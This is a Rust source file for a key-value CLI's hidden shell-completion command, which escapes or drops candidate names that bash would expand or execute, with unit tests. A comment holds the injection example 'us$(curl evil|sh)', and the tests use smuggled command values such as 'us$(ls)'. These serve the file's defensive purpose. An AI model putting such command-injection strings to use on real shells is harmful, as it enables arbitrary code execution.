//! `dkv __complete`: what the scripts of the shells call.
//!
//! ```text
//! dkv __complete bash LINE WORD     LINE up to the cursor, and the part of it bash replaces
//! dkv __complete zsh WORD...        every word up to the cursor; the last may be empty
//! dkv __complete fish WORD...
//! ```
//!
//! A candidate a line; for zsh and fish with a tab and what it means.

use std::ffi::{OsStr, OsString};
use std::os::unix::ffi::{OsStrExt, OsStringExt};
use std::sync::Arc;

use clap_complete::engine::{CompletionCandidate, complete};

use super::asking::{PATIENCE, names};
use super::kinds::{Asker, Kind, attach};
use super::typed;
use crate::cli::completions::visible;
use crate::cli::{explain, shell};
use crate::client::Client;

/// The first argument of such a call; no subcommand of any help.
pub(crate) const HIDDEN_WORD: &str = "__complete";

/// What a call prints; nothing for one that makes no sense.
pub(crate) fn answer(arguments: &[OsString], variables: &[(OsString, OsString)]) -> Vec<u8> {
    let Some((shell, words)) = arguments.split_first() else {
        return Vec::new();
    };
    match (shell.to_str(), words) {
        (Some("bash"), [line, word]) => for_bash(line, word, variables).unwrap_or_default(),
        (Some("zsh" | "fish"), words) if !words.is_empty() => described(words, variables),
        _ => Vec::new(),
    }
}

fn described(words: &[OsString], variables: &[(OsString, OsString)]) -> Vec<u8> {
    let mut lines = Vec::new();
    for candidate in candidates(words, variables) {
        lines.extend_from_slice(candidate.get_value().as_bytes());
        if let Some(about) = candidate.get_help() {
            let about = about.to_string();
            lines.push(b'\t');
            lines.extend_from_slice(about.lines().next().unwrap_or_default().as_bytes());
        }
        lines.push(b'\n');
    }
    lines
}

/// bash splits words at colons, and puts in what it is given as it is: so the line is split
/// here, and what bash keeps of the word is left out.
fn for_bash(line: &OsStr, replaced: &OsStr, variables: &[(OsString, OsString)]) -> Option<Vec<u8>> {
    let (words, current) = shell::words_before_cursor(line.as_bytes())?;
    let mut words: Vec<OsString> = words.into_iter().map(OsString::from_vec).collect();
    words.push(OsString::from_vec(current.bytes.clone()));
    let raw = &line.as_bytes()[current.at..];
    let kept = raw.strip_suffix(replaced.as_bytes()).unwrap_or_default();
    let mut lines = Vec::new();
    for candidate in candidates(&words, variables) {
        let value = candidate.get_value().as_bytes();
        let Some(text) = typed_into(current.quote, value) else {
            continue;
        };
        let kept = match current.quote {
            Some(_) => kept.get(1..).unwrap_or_default(),
            None => kept,
        };
        if let Some(rest) = text.strip_prefix(kept) {
            lines.extend_from_slice(rest);
            lines.push(b'\n');
        }
    }
    Some(lines)
}

/// A value as bash takes it behind the quote that is open; `None`: there it would be
/// something else, and a name that somebody made must never become a command.
fn typed_into(quote: Option<u8>, value: &[u8]) -> Option<Vec<u8>> {
    // What bash expands within this quote; a candidate is a line.
    let special: &[u8] = match quote {
        Some(b'"') => b"\"$`\\!\n",
        Some(_) => b"'\n",
        None => b"\n",
    };
    if value.iter().any(|byte| special.contains(byte)) {
        return None;
    }
    Some(match quote {
        Some(_) => value.to_vec(),
        None => backslashed(value),
    })
}

/// As bash reads it back.
fn backslashed(value: &[u8]) -> Vec<u8> {
    let mut text = Vec::with_capacity(value.len());
    for byte in value {
        if !byte.is_ascii_alphanumeric() && byte.is_ascii() && !b"_-./:@+=%,^".contains(byte) {
            text.push(b'\\');
        }
        text.push(*byte);
    }
    text
}

/// What may stand in place of the last word.
fn candidates(words: &[OsString], variables: &[(OsString, OsString)]) -> Vec<CompletionCandidate> {
    // A flag that is a subcommand is none for what completes; the last word is being typed.
    let (last, before) = words.split_last().expect("there is a word to complete");
    let mut words = explain::as_subcommand(before.to_vec());
    words.push(last.clone());
    let words = &words[..];
    let asker = asker(words, variables);
    let mut command = attach(visible(&crate::cli::command()), &asker);
    let current_dir = std::env::current_dir().ok();
    let index = words.len() - 1;
    let found = complete(&mut command, words.to_vec(), index, current_dir.as_deref());
    sifted(found.unwrap_or_default(), &words[index])
}

/// Flags are for who begins to type one, if there is anything else.
pub(crate) fn sifted(
    mut found: Vec<CompletionCandidate>,
    current: &OsStr,
) -> Vec<CompletionCandidate> {
    let is_flag = |it: &CompletionCandidate| it.get_value().as_bytes().starts_with(b"-");
    if !current.as_bytes().starts_with(b"-") && found.iter().any(|it| !is_flag(it)) {
        found.retain(|it| !is_flag(it));
    }
    found
}

/// Asks the server that the words name.
fn asker(words: &[OsString], variables: &[(OsString, OsString)]) -> Asker {
    let (words, variables) = (words.to_vec(), variables.to_vec());
    Arc::new(move |kind: Kind, begin: &str| {
        let options = typed::options(&words, variables.clone());
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build();
        let (Some(options), Ok(runtime)) = (options, runtime) else {
            return Vec::new();
        };
        let asked = async {
            let client = Client::connect(options).await.ok()?;
            Some(names(&client, kind, begin).await)
        };
        let answered = runtime.block_on(async { tokio::time::timeout(PATIENCE, asked).await });
        // A name that is still being looked up must not keep the shell waiting.
        runtime.shutdown_background();
        answered.ok().flatten().unwrap_or_default()
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bash(line: &str, word: &str) -> Vec<String> {
        let arguments = ["bash", line, word].map(OsString::from);
        let variables = [("DKV_ENDPOINTS".into(), "127.0.0.1:1".into())];
        let lines = String::from_utf8(answer(&arguments, &variables)).unwrap();
        lines.lines().map(str::to_owned).collect()
    }

    #[test]
    fn subcommands_flags_and_values_are_known_without_a_server() {
        assert_eq!(bash("dkv loc", "loc"), ["lock"]);
        assert_eq!(bash("dkv kv sc", "sc"), ["scan"]);
        assert_eq!(bash("dkv kv get --consistency st", "st"), ["stale"]);
        assert_eq!(bash("dkv kv get --consistency=st", "st"), ["stale"]);
        assert!(bash("dkv kv set --if-", "--if-").contains(&"--if-absent".to_owned()));
    }

    #[test]
    fn topics_and_kinds_of_errors_are_known() {
        assert_eq!(bash("dkv help loc", "loc"), ["lock", "locks"]);
        assert!(bash("dkv help ", "").contains(&"exit-codes".to_owned()));
        assert_eq!(bash("dkv explain fe", "fe"), ["FenceStale"]);
        assert_eq!(bash("dkv --explain Ti", "Ti"), ["Timeout"]);
        assert_eq!(bash("dkv -o json --explain Ti", "Ti"), ["Timeout"]);
    }

    #[test]
    fn nobody_who_answers_is_nothing_to_tell() {
        assert_eq!(bash("dkv kv get us", "us"), [""; 0]);
        assert!(!bash("dkv kv get ", "").contains(&"--tls-ca".to_owned()));
    }

    /// A key `us$(curl evil|sh)` was put into an open double quote as it is.
    #[test]
    fn a_name_that_bash_would_run_or_expand_is_not_put_into_an_open_quote() {
        let typed = |quote: Option<u8>, value: &str| {
            let text = typed_into(quote, value.as_bytes())?;
            Some(String::from_utf8(text).unwrap())
        };
        for value in [
            "us$(ls)", "us`ls`", "us$HOME", "us\\", "us!!", "us\"", "u\nls",
        ] {
            assert_eq!(typed(Some(b'"'), value), None, "{value}");
        }
        assert_eq!(typed(Some(b'"'), "two 'words'").unwrap(), "two 'words'");
        assert_eq!(typed(Some(b'\''), "us$(ls)").unwrap(), "us$(ls)");
        assert_eq!(typed(Some(b'\''), "it's"), None);
        assert_eq!(typed(None, "us$(ls)").unwrap(), "us\\$\\(ls\\)");
        assert_eq!(typed(None, "u\nls"), None);
    }

    #[test]
    fn nonsense_is_nothing_to_tell() {
        for words in [
            &["bash"][..],
            &["bash", "dkv \"", "", ""],
            &["csh", "dkv"],
            &[],
        ] {
            let words: Vec<OsString> = words.iter().map(OsString::from).collect();
            assert_eq!(answer(&words, &[]), b"", "{words:?}");
        }
    }
}
